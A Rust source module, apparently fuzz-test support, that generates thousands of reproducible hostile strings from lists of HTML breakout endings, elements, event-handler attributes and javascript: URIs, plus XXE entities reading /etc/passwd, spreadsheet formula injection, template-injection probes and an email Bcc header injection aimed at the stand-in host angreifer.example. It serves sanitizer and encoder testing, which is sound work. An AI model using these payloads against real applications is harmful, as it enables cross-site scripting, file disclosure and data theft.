//! Hostile texts by the thousand: a grammar of what breaks out of attributes, elements, papers and tables, after the evasion
//! lists of OWASP and DOMPurify and the HTML of CommonMark. A seed gives the same text again.

/// What ends whatever a text may stand in.
const ENDS: &[&str] = &[
    "",
    "\"",
    "'",
    "`",
    "\">",
    "'>",
    "\" ",
    "' ",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</select>",
    "</svg>",
    "</math>",
    "</noscript>",
    "</template>",
    "</iframe>",
    "-->",
    "--!>",
    "]]>",
    "&quot;>",
    "&#34;>",
    "%22%3E",
    "\\\">",
    "\n\n",
    "</w:t></w:r>",
    "</t></si>",
    "*/",
    "?>",
    "\u{2028}",
];
const ELEMENTS: &[&str] = &[
    "script",
    "img",
    "svg",
    "math",
    "iframe",
    "object",
    "embed",
    "base",
    "meta",
    "link",
    "style",
    "form",
    "input",
    "button",
    "a",
    "body",
    "details",
    "video",
    "audio",
    "source",
    "animate",
    "set",
    "use",
    "foreignObject",
    "template",
    "noscript",
    "table",
    "select",
    "textarea",
    "marquee",
    "x-y",
    "isindex",
    "frameset",
    "annotation-xml",
    "mglyph",
    "image",
    "title",
    "plaintext",
    "w:instrText",
    "f",
    "!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]",
    "?xml-stylesheet",
    "![CDATA[",
    "!--",
];
const GAPS: &[&str] = &[" ", "/", "\t", "\n", "\u{c}", "//", " / ", "\r\n", "\u{a0}"];
const NAMES: &[&str] = &[
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "autofocus onfocus",
    "onbegin",
    "ontoggle",
    "onmouseover",
    "onanimationend",
    "onpointerrawupdate",
    "src",
    "href",
    "xlink:href",
    "action",
    "formaction",
    "srcdoc",
    "style",
    "data",
    "content",
    "hx-get",
    "hx-on:click",
    "hx-trigger",
    "http-equiv",
    "background",
    "poster",
    "attributeName=href values",
    "id",
    "name",
    "is",
    "slot",
];
const CODES: &[&str] = &[
    "alert(1)",
    "alert`1`",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "\u{1}javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "vbscript:x",
    "//angreifer.example",
    "\\\\angreifer.example\\a",
    "expression(alert(1))",
    "x:expression(alert(1))",
    "@import'//angreifer.example'",
    "url(//angreifer.example)",
    "constructor.constructor('alert(1)')()",
    "0;url=//angreifer.example",
    "<script>alert(1)</script>",
];
/// What is no HTML and means something elsewhere: Markdown, spreadsheets, typesetting, templates, letters.
const ELSEWHERE: &[&str] = &[
    "[x](javascript:alert(1))",
    "![x](x\"onerror=\"alert(1))",
    "<javascript:alert(1)>",
    "[a]: data:text/html,x",
    "```\n<script>\n```",
    "=cmd|'/c calc'!A0",
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "=HYPERLINK(\"//angreifer.example\")",
    "#read(\"/etc/passwd\")",
    "#eval(\"1\")",
    "#image(\"/etc/passwd\")",
    "#link(\"javascript:1\")[x]",
    "$ x $ */ /* //",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{ $name }",
    "{ \"x\" }",
    "\\u003cscript\\u003e",
    "&lt;script&gt;",
    "%3Cscript%3E",
    "\u{ff1c}script\u{ff1e}",
    "\u{202e}<script>\u{2066}",
    "a\r\nBcc: x@angreifer.example\r\n\r\n<script>",
    "id: 1\ndata: <script>\n\n",
];

/// Chance that comes again (splitmix64).
struct Dice(u64);

impl Dice {
    fn below(&mut self, end: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        ((mixed ^ (mixed >> 31)) % (end.max(1) as u64)) as usize
    }

    fn pick(&mut self, of: &[&'static str]) -> &'static str {
        of[self.below(of.len())]
    }
}

/// One hostile text.
pub(super) fn payload(seed: u64) -> String {
    let mut dice = Dice(seed);
    if dice.below(6) == 0 {
        return dice.pick(ENDS).to_owned() + dice.pick(ELSEWHERE);
    }
    let mut text = dice.pick(ENDS).to_owned();
    for _ in 0..=dice.below(2) {
        text.push_str(&element(&mut dice));
    }
    match dice.below(8) {
        // Capitals here and there, and what a filter would leave when it takes the inner word away.
        0 => text.chars().map(|c| if dice.below(2) == 0 { c.to_ascii_uppercase() } else { c }).collect(),
        1 => text.replacen("<script", "<scr<script>ipt", 1),
        _ => text,
    }
}

fn element(dice: &mut Dice) -> String {
    let name = dice.pick(ELEMENTS);
    let mut text = format!("<{name}");
    for _ in 0..dice.below(3) {
        let quote = dice.pick(&["", "\"", "'", "`"]);
        text.push_str(&format!("{}{}={quote}{}{quote}", dice.pick(GAPS), dice.pick(NAMES), dice.pick(CODES)));
    }
    text.push_str(dice.pick(&[">", "/>", " ", "//", ">x"]));
    match dice.below(4) {
        0 => text + dice.pick(CODES) + "</" + name + ">",
        _ => text,
    }
}
